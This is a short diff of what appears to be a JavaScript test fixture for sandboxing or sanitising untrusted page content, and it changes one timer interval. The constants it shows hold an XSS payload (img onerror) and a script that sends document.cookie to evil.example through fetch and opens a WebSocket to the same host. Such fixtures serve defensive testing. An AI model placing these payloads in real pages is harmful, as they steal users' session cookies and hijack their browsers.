@@ -39,7 +39,7 @@ const HOSTILE = "&lt;img src=x onerror=alert(1)&gt;&lt;/script&gt; {name} &#x202
 /** A page of the live site that somebody else wrote. */
 const ATTACK = `<script>
 alert("hello"); open("https://evil.example/"); fetch("https://evil.example/?" + document.cookie);
-setInterval(() => { document.title += "!"; }, 1); new WebSocket("wss://evil.example/");
+setInterval(() => { document.title += "!"; }, 30); new WebSocket("wss://evil.example/");
 location.hash = "gone";
 </script>`;
 
